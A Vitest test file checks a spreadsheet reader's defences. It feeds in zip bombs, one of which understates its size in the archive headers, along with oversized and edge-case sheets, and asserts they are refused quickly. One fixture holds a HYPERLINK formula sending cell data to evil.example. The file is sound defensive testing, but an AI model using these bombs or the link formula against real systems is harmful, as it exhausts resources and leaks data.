import { monitorEventLoopDelay } from 'node:perf_hooks';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { spreadsheetNamespace, createWorkbook } from '../../../tests/support/workbook.ts';
import { openSpreadsheets, type Spreadsheets } from './spreadsheets.ts';

let spreadsheets: Spreadsheets;
beforeAll(async () => {
  spreadsheets = openSpreadsheets(() => {});
  // Starts the worker now, so that the tests do not measure how long its start takes.
  await spreadsheets.read(await createWorkbook('<row r="1"><c r="A1"><v>1</v></c></row>'), 10);
});
afterAll(() => spreadsheets.close());

/** Returns a copy of an archive in which the directory and the headers claim 100 bytes for a file of `size` bytes. */
function understateSize(archive: Buffer, size: number): Buffer {
  const copy = Buffer.from(archive);
  const trueSize = Buffer.alloc(4);
  trueSize.writeUInt32LE(size);
  for (let position = copy.indexOf(trueSize); position >= 0; position = copy.indexOf(trueSize, position + 4))
    copy.writeUInt32LE(100, position);
  return copy;
}

const zeroBytes = 60_000_000;
test.each([
  ['a zip bomb', () => createWorkbook('', { parts: { 'xl/styles.xml': Buffer.alloc(zeroBytes) } })],
  [
    'a zip bomb that claims to be small',
    async () => understateSize(await createWorkbook('', { parts: { 'xl/a.xml': Buffer.alloc(zeroBytes) } }), zeroBytes),
  ],
  ['ten million empty cells', () => createWorkbook(`<row r="1">${'<c/>'.repeat(10_000_000)}</row>`)],
  ['a cell in the last row and column', () => createWorkbook('<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>')],
  [
    'a cell in the last row of a sheet with a prefix',
    () => createWorkbook("<x:row r = '1048576'><x:c r='A1048576'/></x:row>"),
  ],
])('%s is refused within two seconds and does not block other users [7.3]', async (_, makeFile) => {
  const bytes = await makeFile();
  const eventLoopDelay = monitorEventLoopDelay({ resolution: 5 });
  eventLoopDelay.enable();
  const startedAt = performance.now();
  expect(['tooLarge', 'unreadable']).toContain(await spreadsheets.read(bytes, 20_000));
  expect(performance.now() - startedAt).toBeLessThan(2_000);
  eventLoopDelay.disable();
  expect(eventLoopDelay.max / 1e6).toBeLessThan(200);
});

test('a formula is read as its stored value, and a link to another file is not followed [7.3]', async () => {
  const parts = {
    'xl/externalLinks/externalLink1.xml': `<externalLink xmlns="${spreadsheetNamespace}"><externalBook/></externalLink>`,
  };
  const rows =
    '<row r="1"><c r="A1" t="str"><f>HYPERLINK("https://evil.example/"&amp;B1,"klick")</f><v>klick</v></c>' +
    '<c r="B1"><f>[1]Tabelle!A1</f><v>7</v></c><c r="C1" t="inlineStr"><is><t>=1+1</t></is></c></row>';
  expect(await spreadsheets.read(await createWorkbook(rows, { parts }), 10)).toEqual([['klick', '7', '=1+1']]);
});
